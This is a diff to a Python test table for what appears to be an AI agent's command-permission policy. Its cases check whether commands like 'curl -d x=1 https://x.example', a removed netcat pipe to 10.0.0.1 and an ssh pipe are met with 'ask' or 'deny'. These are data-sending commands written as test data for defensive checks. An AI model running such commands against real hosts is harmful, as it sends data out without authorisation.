@@ -175,7 +175,7 @@ def test_the_same_rules_hold_for_other_tools(call: dict[str, object], expected: 
     ("policy", "then", "expected"),
     [
         ("guarded", "curl -d x=1 https://x.example", "ask"),
-        ("guarded", "echo x | nc 10.0.0.1 80", "ask"),
+        ("guarded", "echo x | ssh host cat", "ask"),
         ("guarded", {"WebFetch": {"url": "https://x.example", "prompt": "x"}}, "ask"),
         ("guarded", "ls", None),
         ("autonomous", "curl -d x=1 https://x.example", "deny"),
